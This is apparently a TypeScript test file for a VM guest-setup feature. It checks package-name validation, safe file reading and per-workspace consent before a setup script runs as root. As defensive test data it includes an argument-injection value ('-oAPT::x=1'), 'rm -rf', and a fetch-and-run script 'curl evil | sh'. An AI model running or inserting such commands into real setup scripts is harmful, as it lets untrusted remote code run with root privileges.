import assert from 'node:assert/strict';
import { mkdtemp, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { combineLayer, guestSetupHash, parseGuestSetup, readGuestSetup } from '../../extension/config/guestSetup';
import { consentKey, consentToGuestSetup, guestLayerResolver, type ConsentQuestion } from '../../extension/config/guestConsent';
import { GuestLayerSpec, VmStartParams } from '../../extension/protocol/vmHost';
import { parseSettings } from '../../extension/config/settings';
import { cacheDiskPath } from '../../extension/session/cacheDisk';
import { MemoryStore } from '../support/memoryStore';

describe('.cowork/guest.json schema', () => {
  it('accepts Debian package names and a script, canonically sorted', () => {
    const r = parseGuestSetup(JSON.stringify({ packages: ['sl', 'cowsay', 'libfoo2.0+x', 'sl'], setup: 'echo hi\n' }));
    assert.equal(r.kind, 'ok');
    if (r.kind === 'ok') assert.deepEqual(r.spec, { packages: ['cowsay', 'libfoo2.0+x', 'sl'], setup: 'echo hi\n' });
  });

  it('refuses names outside Debian\'s grammar, naming the entry', () => {
    for (const bad of ['Cowsay', '-o', 'a', 'foo=1.0', 'foo/bookworm', 'foo*', './x.deb', 'foo bar', '', 'x'.repeat(101)]) {
      const r = parseGuestSetup(JSON.stringify({ packages: ['jq', bad] }));
      assert.equal(r.kind, 'invalid', bad);
      if (r.kind === 'invalid') assert.match(r.message, /packages\[1\]/, bad);
    }
  });

  it('refuses unknown keys (a typo must not be silently ignored), bad JSON, too many packages and a large script', () => {
    const typo = parseGuestSetup(JSON.stringify({ pakages: ['jq'] }));
    assert.equal(typo.kind, 'invalid');
    if (typo.kind === 'invalid') assert.match(typo.message, /pakages/);
    assert.equal(parseGuestSetup('{').kind, 'invalid');
    assert.equal(parseGuestSetup(JSON.stringify({ packages: Array.from({ length: 65 }, (_, i) => `pkg${i}`) })).kind, 'invalid');
    const big = parseGuestSetup(JSON.stringify({ setup: 'x'.repeat(16 * 1024 + 1) }));
    assert.equal(big.kind, 'invalid');
    if (big.kind === 'invalid') assert.match(big.message, /setup.*16384 bytes/);
    assert.equal(parseGuestSetup(JSON.stringify({ setup: 'a\u0000b' })).kind, 'invalid');
  });

  it('the helper refuses the same things at its edge (vm.start parameters)', () => {
    const base = { vmId: 'x1', workspace: '/w', sessionDisk: '/s.qcow2', cpus: 1, memoryMiB: 512, diskGiB: 1, accelerator: 'tcg' };
    assert.ok(VmStartParams.safeParse({ ...base, guestLayer: { packages: ['cowsay'] } }).success);
    assert.ok(!VmStartParams.safeParse({ ...base, guestLayer: { packages: ['-oAPT::x=1'] } }).success);
    assert.ok(!VmStartParams.safeParse({ ...base, guestLayer: { packages: [], extra: 1 } }).success);
    assert.ok(!GuestLayerSpec.safeParse({ packages: ['ok'], setup: 'y'.repeat(20_000) }).success);
  });

  it('hashes the canonical content: reordering packages does not ask again, a changed script does', () => {
    assert.equal(guestSetupHash({ packages: ['b', 'a'] }), guestSetupHash({ packages: ['a', 'b', 'a'] }));
    assert.notEqual(guestSetupHash({ packages: ['a'], setup: 'x' }), guestSetupHash({ packages: ['a'], setup: 'y' }));
  });

  it('adds the machine setting\'s packages; nothing to add is no layer', () => {
    assert.deepEqual(combineLayer({ packages: ['sl'] }, ['jq', 'sl']), { packages: ['jq', 'sl'] });
    assert.equal(combineLayer(undefined, []), undefined);
    assert.deepEqual(combineLayer(undefined, ['jq']), { packages: ['jq'] });
  });

  it('the machine setting is validated and machine-scoped', () => {
    const ok = parseSettings({ 'guest.extraPackages': ['jq'] });
    assert.ok(ok.ok);
    const bad = parseSettings({ 'guest.extraPackages': ['rm -rf'] });
    assert.ok(!bad.ok);
  });

  it('reads only a regular file of bounded size (not a link)', async () => {
    const ws = await mkdtemp(path.join(os.tmpdir(), 'guestsetup-'));
    try {
      assert.equal((await readGuestSetup(ws)).kind, 'none');
      await mkdir(path.join(ws, '.cowork'));
      await writeFile(path.join(ws, 'elsewhere.json'), '{"packages":["sl"]}');
      await symlink('../elsewhere.json', path.join(ws, '.cowork', 'guest.json'));
      assert.equal((await readGuestSetup(ws)).kind, 'invalid');
      await rm(path.join(ws, '.cowork', 'guest.json'));
      await writeFile(path.join(ws, '.cowork', 'guest.json'), JSON.stringify({ packages: ['sl'], $comment: 'x'.repeat(70 * 1024) }));
      assert.equal((await readGuestSetup(ws)).kind, 'invalid');
      await writeFile(path.join(ws, '.cowork', 'guest.json'), '{"packages":["sl"]}');
      assert.deepEqual(await readGuestSetup(ws), { kind: 'ok', spec: { packages: ['sl'] } });
    } finally {
      await rm(ws, { recursive: true, force: true });
    }
  });

  it('one cache disk per workspace path, under the global storage', () => {
    const a = cacheDiskPath('/g', '/home/me/a');
    assert.notEqual(a, cacheDiskPath('/g', '/home/me/b'));
    assert.equal(a, cacheDiskPath('/g', '/home/me/a/'));
    assert.ok(a.startsWith('/g/caches/'));
  });
});


describe('guest setup consent', () => {
  const spec = { packages: ['cowsay'], setup: 'echo setting up > /etc/motd' };

  it('asks before the first use, showing every package and the whole script; no answer is stored in the workspace', async () => {
    const store = new MemoryStore();
    const asked: ConsentQuestion[] = [];
    const out = await consentToGuestSetup('/ws', { kind: 'ok', spec }, store, (q) => Promise.resolve((asked.push(q), true)));
    assert.equal(out.kind, 'allowed');
    assert.equal(asked.length, 1);
    assert.match(asked[0]!.detail, /cowsay/);
    assert.ok(asked[0]!.detail.includes(spec.setup), 'the script text is shown');
    assert.match(asked[0]!.detail, /root/);
    assert.deepEqual([...store.values.keys()], [consentKey('/ws')]);
  });

  it('does not ask again for the same content; asks again when it changed; a no is remembered too', async () => {
    const store = new MemoryStore();
    let asks = 0;
    const yes = (): Promise<boolean> => Promise.resolve((asks++, true));
    await consentToGuestSetup('/ws', { kind: 'ok', spec }, store, yes);
    assert.equal((await consentToGuestSetup('/ws', { kind: 'ok', spec }, store, yes)).kind, 'allowed');
    assert.equal(asks, 1);
    const changed: ConsentQuestion[] = [];
    const out = await consentToGuestSetup('/ws', { kind: 'ok', spec: { ...spec, setup: 'curl evil | sh' } }, store, (q) => Promise.resolve((changed.push(q), false)));
    assert.equal(out.kind, 'declined');
    assert.equal(changed[0]!.changed, true);
    assert.equal((await consentToGuestSetup('/ws', { kind: 'ok', spec: { ...spec, setup: 'curl evil | sh' } }, store, yes)).kind, 'declined');
    assert.equal(asks, 1, 'a declined content is not asked again');
  });

  it('consent is per workspace: another workspace with the same file is asked', async () => {
    const store = new MemoryStore();
    let asks = 0;
    await consentToGuestSetup('/ws1', { kind: 'ok', spec }, store, () => Promise.resolve((asks++, true)));
    await consentToGuestSetup('/ws2', { kind: 'ok', spec }, store, () => Promise.resolve((asks++, true)));
    assert.equal(asks, 2);
  });

  it('the resolver boots the plain image plus machine packages when declined or invalid, and says why', async () => {
    const ws = await mkdtemp(path.join(os.tmpdir(), 'guestconsent-'));
    try {
      await mkdir(path.join(ws, '.cowork'));
      await writeFile(path.join(ws, '.cowork', 'guest.json'), JSON.stringify(spec));
      const notes: string[] = [];
      const store = new MemoryStore();
      const no = guestLayerResolver({ workspace: ws, store, prompt: () => Promise.resolve(false), extraPackages: () => ['jq'], notify: (m) => notes.push(m) });
      assert.deepEqual(await no(), { packages: ['jq'] });
      assert.match(notes[0]!, /declined/);
      const store2 = new MemoryStore();
      const yes = guestLayerResolver({ workspace: ws, store: store2, prompt: () => Promise.resolve(true), extraPackages: () => [], notify: (m) => notes.push(m) });
      assert.deepEqual(await yes(), { packages: ['cowsay'], setup: spec.setup });
      await writeFile(path.join(ws, '.cowork', 'guest.json'), '{"packages":["BAD"]}');
      assert.equal(await yes(), undefined);
      assert.match(notes.at(-1)!, /refused/);
    } finally {
      await rm(ws, { recursive: true, force: true });
    }
  });
});
